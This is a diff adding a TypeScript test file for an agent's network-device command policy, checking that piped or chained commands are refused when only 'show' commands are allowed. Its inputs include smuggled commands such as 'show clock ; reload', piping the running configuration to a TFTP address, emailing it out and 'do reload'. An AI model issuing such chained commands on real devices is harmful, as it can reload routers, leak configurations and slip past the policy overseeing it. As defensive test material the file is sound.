@@ -1,0 +1,50 @@
+import t from 'tap';
+import type { Platform } from '../../../agent/drivers/network/platforms/platform.js';
+import { platforms } from '../../../agent/drivers/network/platforms/table.js';
+import { judgeCommands, judgeConfig } from '../../../agent/drivers/network/policy.js';
+import { parsePolicy } from '../../../agent/policy/parse.js';
+import { Policy } from '../../../agent/policy/policy.js';
+
+const policyOf = (text: string) => new Policy(parsePolicy(`device_commands: ${text}`));
+const platformOf = (name: string) => platforms.get(name) as Platform;
+const refused = { name: 'AgentFailure', kind: 'refused', details: { reason: 'policy' } };
+
+t.test('each command of a line has to be allowed, not only the first', async (t) => {
+  const policy = policyOf(`{ allow: ['show *'] }`);
+  const run = (name: string, command: string) => judgeCommands(policy, platformOf(name), [command], true);
+  for (const [name, ...commands] of [
+    ['cisco_ios', 'show run | redirect flash:x', 'show run | r tftp://192.0.2.1/x', 'show run | tee x'],
+    [
+      'cisco_nxos',
+      'show clock ; reload',
+      'show clock;reload',
+      'show run | vsh',
+      'show run | include a | em x@example.org',
+    ],
+    ['juniper_junos', 'show configuration | save x', 'show route | match "a|b" | request message x'],
+    ['frr', 'show running-config | tee x'],
+  ] as const)
+    for (const command of commands) t.throws(() => run(name, command), refused, `${name}: ${command}`);
+  for (const [name, command] of [
+    ['cisco_ios', 'show run | include a|r'],
+    ['cisco_nxos', 'show clock ; show version'],
+    ['cisco_nxos', 'show run | include a | count'],
+    ['juniper_junos', 'show route | match "a|s" | count'],
+  ] as const)
+    t.doesNotThrow(() => run(name, command), `${name}: ${command}`);
+});
+
+t.test('what is denied is denied within a configuration, too', async (t) => {
+  const policy = policyOf(`{ deny: ['reload*', 'redirect *'] }`);
+  const enter = (name: string, config: string) => judgeConfig(policy, platformOf(name), config);
+  for (const [name, line] of [
+    ['cisco_ios', 'do reload'],
+    ['cisco_ios', 'do show run | redirect flash:x'],
+    ['cisco_nxos', 'interface loopback1 ; reload'],
+  ] as const)
+    t.throws(() => enter(name, `interface loopback0\n ${line}\n`), refused, line);
+  t.doesNotThrow(
+    () => enter('cisco_ios', 'ip as-path access-list 1 permit _1|reload_\n'),
+    'a sign in a pattern pipes nothing',
+  );
+});
